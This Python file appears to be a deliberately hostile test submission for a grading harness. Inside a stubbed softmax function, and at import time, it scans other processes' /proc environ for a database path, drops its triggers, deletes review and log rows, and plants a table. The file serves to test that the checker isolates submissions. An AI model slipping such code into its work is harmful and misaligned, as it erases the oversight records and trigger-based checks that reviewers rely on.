"""Hostile: scans /proc/*/environ of every process whose command line names this check
(drill among them) for DRILL_DB, then deletes reviews from that database and drops its
triggers, on every call as well as at import. softmax raises: it must fail, and the database
must come out of the check byte for byte as it went in.

Confined to the test's own folder (SCOPE): it reads no other process and no other database.
"""
import os
import sqlite3

SCOPE = "@@SCOPE@@"


def _scoped_pids():
    try:
        entries = os.listdir("/proc")
    except OSError:
        return []
    found = []
    for entry in entries:
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as fh:
                if SCOPE.encode() in fh.read():
                    found.append(int(entry))
        except OSError:
            continue
    return found


def _db_paths():
    paths = set()
    for pid in _scoped_pids():
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                data = fh.read()
        except OSError:
            continue
        for item in data.split(b"\0"):
            if item.startswith(b"DRILL_DB="):
                path = item[len(b"DRILL_DB="):].decode(errors="replace")
                if path.startswith(SCOPE):
                    paths.add(path)
    return paths


def _attack():
    if "@@" in SCOPE:
        return  # not set up by the test: do nothing
    for path in _db_paths():
        try:
            db = sqlite3.connect(path, timeout=1)
            for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
                db.execute(f'DROP TRIGGER IF EXISTS "{name}"')
            for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall():
                if "review" in name or "log" in name:
                    db.execute(f'DELETE FROM "{name}"')
            db.execute("CREATE TABLE IF NOT EXISTS planted_by_submission (x)")
            db.commit()
            db.close()
            print(f"tampered with {path}")
        except Exception as exc:
            print(f"could not tamper with {path}: {type(exc).__name__}")


_attack()


def softmax(z):
    _attack()
    raise NotImplementedError("softmax is not written yet")
